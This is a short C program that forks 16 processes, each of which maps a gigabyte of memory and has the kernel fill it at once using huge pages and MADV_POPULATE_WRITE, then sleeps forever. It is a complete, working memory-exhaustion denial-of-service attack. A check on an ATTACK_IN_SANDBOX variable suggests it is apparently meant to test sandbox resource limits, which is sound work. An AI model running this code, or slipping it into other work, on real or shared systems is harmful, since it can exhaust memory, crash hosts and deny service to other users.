// have the kernel fill a gigabyte in one call, in many processes at once
#define _GNU_SOURCE
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define SIZE ((size_t)1 << 30)

int main(void) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    for (int i = 0; i < 16; i++) {
        if (fork()) continue;
        char *room = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
        madvise(room, SIZE, MADV_HUGEPAGE);
        madvise(room, SIZE, 23 /* MADV_POPULATE_WRITE */);
        for (;;) pause();
    }
    for (;;) wait(NULL);
}
